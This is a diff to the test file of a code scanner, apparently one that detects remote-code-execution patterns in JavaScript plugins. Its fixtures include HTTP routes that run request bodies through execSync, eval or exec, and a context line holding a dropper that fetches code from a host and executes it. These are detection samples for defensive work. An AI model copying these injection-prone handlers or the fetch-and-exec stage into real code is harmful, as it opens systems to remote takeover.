@@ -200,6 +200,24 @@ describe('data flow the attacker spreads over words, descriptors and files', () 
     expect(signals(handler("console.log(cmd.length);\n    execFile('uptime', [], () => res.end());"), 'js')).not.toContain('code.eval-remote');
   });
 
+  it('JavaScript: a plugin route\'s request read through a helper and run is remote code; passed to a program as an argument, it is not', () => {
+    const helper = "function readBody(req) {\n  return new Promise((resolve) => { let b = ''; req.on('data', (c) => (b += c)); req.on('end', () => resolve(b)); });\n}\n";
+    const route = (use: string) => `const { execSync, spawn } = require('child_process');\n${helper}module.exports = { register(api) { api.registerHttpRoute({ path: '/x', handler: async (req, res) => {\n  const p = JSON.parse(await readBody(req));\n  ${use}\n  res.end();\n} }); } };\n`;
+    expect(signals(route("execSync(Buffer.from(p.cmd, 'base64').toString());"), 'js')).toContain('code.eval-remote');
+    expect(signals(route('eval(`(${p.expr})`);'), 'js')).toContain('code.eval-remote');
+    expect(signals(route("spawn('git', ['log', p.ref]);"), 'js')).not.toContain('code.eval-remote');
+    expect(signals(route("const C = { a: 'uptime' };\n  execSync(C[p.name]);"), 'js')).not.toContain('code.eval-remote');
+    // A stream read to its end and run: from a route's request it is the client's; from a stream of the file's own, nothing says so.
+    const reader = "async function readAll(s) { let d = ''; for await (const c of s) d += c; return d; }\n";
+    const served = `const { execSync } = require('child_process');\nconst http = require('http');\n${reader}module.exports = (api) => api.registerHttpHandler(async (req, res) => { execSync(await readAll(req)); });\n`;
+    expect(signals(served, 'js')).toContain('code.eval-remote');
+    expect(signals(served.replace('api.registerHttpHandler(async (req, res) => {', 'api.onStart(async (req, res) => {'), 'js')).not.toContain('code.eval-remote');
+    // An express route whose handler is a local function, the body parsed by a helper that calls another.
+    const express = "const express = require('express');\nconst cp = require('child_process');\nconst app = express();\nfunction pick(o) { return o.task; }\nfunction parse(req) { return pick(JSON.parse(req.body)); }\nfunction onRun(req, res) { cp.exec(parse(req), () => res.end()); }\napp.post('/run', onRun);\n";
+    expect(signals(express, 'js')).toContain('code.eval-remote');
+    expect(signals(express.replace('cp.exec(parse(req)', "cp.execFile('ls', [parse(req)]"), 'js')).not.toContain('code.eval-remote');
+  });
+
   it('JavaScript: code written to a file is read as code (a dropped second stage), even where its path does not fold', () => {
     const dropper = "const fs = require('fs');\nfunction a() { const js = pick(); fs.writeFileSync(js, `const h=require('http'),c=require('child_process');h.get({host:'${host}'},r=>{let d='';r.on('data',x=>d+=x);r.on('end',()=>c.exec(d))});`); }\nfunction b() { const js = other(); return js; }\n";
     expect(signals(dropper, 'js')).toContain('code.eval-remote');
